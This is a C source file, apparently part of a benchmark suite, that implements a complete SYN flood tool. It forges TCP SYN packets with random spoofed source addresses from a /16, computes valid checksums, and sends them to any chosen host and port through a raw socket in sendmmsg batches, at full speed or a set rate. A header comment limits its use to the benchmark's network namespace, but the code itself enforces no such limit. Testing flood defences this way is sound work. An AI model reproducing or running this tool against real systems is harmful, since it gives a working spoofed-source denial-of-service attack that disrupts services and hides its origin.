/*
 * A SYN flood for bench/synflood: TCP SYNs from random sources of a /16 to
 * one address and port, through a raw socket in batches (sendmmsg), for a
 * number of seconds, as fast as it can or at a rate. Run it only inside a
 * network namespace of the benchmark's: it sends from forged addresses.
 * usage: synflood DST PORT SRC16 SECONDS [PPS]   (SRC16: e.g. 10.99.0.0)
 * Prints one JSON line: the packets sent and the rate achieved.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

static uint64_t now_ns(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static uint16_t csum(const void *p, size_t n, uint32_t sum)
{
        const uint8_t *b = p;
        for (size_t i = 0; i + 1 < n; i += 2)
                sum += (uint32_t)(b[i] << 8 | b[i + 1]);
        if (n & 1)
                sum += (uint32_t)(b[n - 1] << 8);
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return (uint16_t)~sum;
}

struct pkt {
        struct iphdr ip;
        struct tcphdr tcp;
        uint8_t mss[4];
};

static void fill(struct pkt *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
                 uint32_t seq)
{
        memset(p, 0, sizeof(*p));
        p->ip.version = 4;
        p->ip.ihl = 5;
        p->ip.ttl = 64;
        p->ip.protocol = IPPROTO_TCP;
        p->ip.tot_len = htons(sizeof(*p));
        p->ip.saddr = src;
        p->ip.daddr = dst;
        p->tcp.source = htons(sport);
        p->tcp.dest = htons(dport);
        p->tcp.seq = htonl(seq);
        p->tcp.doff = 6;
        p->tcp.syn = 1;
        p->tcp.window = htons(64240);
        p->mss[0] = 2;
        p->mss[1] = 4;
        p->mss[2] = 0x05;
        p->mss[3] = 0xb4;
        /* The pseudo-header, then the segment. */
        uint8_t ph[12];
        memcpy(ph, &src, 4);
        memcpy(ph + 4, &dst, 4);
        ph[8] = 0;
        ph[9] = IPPROTO_TCP;
        ph[10] = 0;
        ph[11] = sizeof(p->tcp) + sizeof(p->mss);
        uint16_t s0 = (uint16_t)~csum(ph, sizeof(ph), 0);
        p->tcp.check = htons(csum(&p->tcp, sizeof(p->tcp) + sizeof(p->mss), s0));
}

int main(int argc, char **argv)
{
        if (argc < 5) {
                fprintf(stderr, "usage: synflood DST PORT SRC16 SECONDS [PPS]\n");
                return 2;
        }
        struct in_addr dst, base;
        if (inet_pton(AF_INET, argv[1], &dst) != 1 || inet_pton(AF_INET, argv[3], &base) != 1) {
                fprintf(stderr, "synflood: bad address\n");
                return 2;
        }
        uint16_t port = (uint16_t)atoi(argv[2]);
        double secs = atof(argv[4]);
        double pps = argc > 5 ? atof(argv[5]) : 0;
        int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (fd < 0) {
                perror("synflood: raw socket");
                return 1;
        }
        static struct pkt pk[BATCH];
        struct iovec iov[BATCH];
        struct mmsghdr mm[BATCH];
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
        uint64_t x = now_ns() | 1, sent = 0, t0 = now_ns(), end = t0 + (uint64_t)(secs * 1e9);
        for (uint64_t t = t0; t < end; t = now_ns()) {
                for (int i = 0; i < BATCH; i++) {
                        x ^= x << 13;
                        x ^= x >> 7;
                        x ^= x << 17;
                        uint32_t src = base.s_addr | htonl((uint32_t)(x & 0xffff));
                        fill(&pk[i], src, dst.s_addr, (uint16_t)(1024 + ((x >> 16) % 60000)), port,
                             (uint32_t)(x >> 32));
                        iov[i] = (struct iovec){&pk[i], sizeof(pk[i])};
                        mm[i] = (struct mmsghdr){.msg_hdr = {.msg_name = &to,
                                                             .msg_namelen = sizeof(to),
                                                             .msg_iov = &iov[i],
                                                             .msg_iovlen = 1}};
                }
                int n = sendmmsg(fd, mm, BATCH, 0);
                if (n > 0)
                        sent += (uint64_t)n;
                if (pps > 0) {
                        uint64_t due = t0 + (uint64_t)((double)sent / pps * 1e9);
                        while (now_ns() < due)
                                ;
                }
        }
        double el = (double)(now_ns() - t0) / 1e9;
        printf("{\"sent\": %llu, \"seconds\": %.2f, \"pps\": %.0f}\n", (unsigned long long)sent, el,
               (double)sent / el);
        return 0;
}
